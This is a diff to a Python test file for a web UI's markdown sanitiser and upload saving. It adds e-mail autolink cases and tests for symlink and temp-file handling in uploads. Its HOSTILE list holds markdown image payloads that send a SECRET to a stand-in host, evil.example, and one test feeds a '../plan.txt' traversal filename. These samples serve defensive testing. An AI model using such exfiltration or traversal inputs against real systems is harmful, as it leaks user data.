@@ -23,7 +23,7 @@ from ui.web.safe_markdown import (
     safe_markdown,
     split_code_blocks,
 )
-from ui.web.uploads import MAX_NAME_BYTES, safe_filename, save_upload
+from ui.web.uploads import MAX_NAME_BYTES, safe_filename, save_upload, staging
 
 HOSTILE = [
     "![pixel](https://evil.example/p.png?q=SECRET)",
@@ -37,6 +37,10 @@ HOSTILE = [
     "![x](//evil.example/p.png)",
     "`code` ![x](https://evil.example/a.png) `more`",
     "- item\n  ```\n  fenced in a list\n[x](https://evil.example/)",
+    "문의: kim@corp.example 로 보내 주세요",
+    "mailto:lee@corp.example",
+    "`a` park+hr@corp.example`",
+    "| 담당 | choi@corp.example |\n|---|---|",
 ]
 
 
@@ -71,9 +75,13 @@ FRAGMENTS = [
     "1. ",
     "| a | b |\n|---|---|\n",
     "연차 ",
+    "kim@corp.example",
+    "@",
+    "mailto:",
 ]
 _MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
-_AUTOLINK_LITERAL = re.compile(r"(?i)https?://|www\.")  # what GFM would linkify in plain text
+# What GFM would linkify in plain text: URLs, "www." and e-mail addresses (as mailto: links).
+_AUTOLINK_LITERAL = re.compile(r"(?i)https?://|www\.|[\w.+-]@[\w-]+\.[\w-]")
 
 
 def _links_and_images(markdown: str) -> list[str]:
@@ -187,7 +195,16 @@ def test_save_upload_stays_in_folder_and_never_follows_links(tmp_path: Path):
     (folder / "link.md").symlink_to(outside)
     save_upload(folder, "link.md", b"data")
     assert not (folder / "link.md").is_symlink() and outside.read_text() == "keep"
-    assert not [p for p in folder.iterdir() if p.name.startswith(".upload-")]
+    assert not [p for p in folder.iterdir() if p.name.startswith(".")]  # no temp file left
+
+
+def test_staging_is_hidden_private_and_removed(tmp_path: Path):
+    folder = tmp_path / "uploads" / "c"
+    with staging(folder) as staged:
+        saved = save_upload(staged, "../plan.txt", b"x")
+        assert saved.parent == staged and staged.parent == folder
+        assert staged.name.startswith(".") and staged.stat().st_mode & 0o077 == 0
+    assert not staged.exists() and list(folder.iterdir()) == []
 
 
 def test_save_upload_refuses_symlinked_folder(tmp_path: Path):
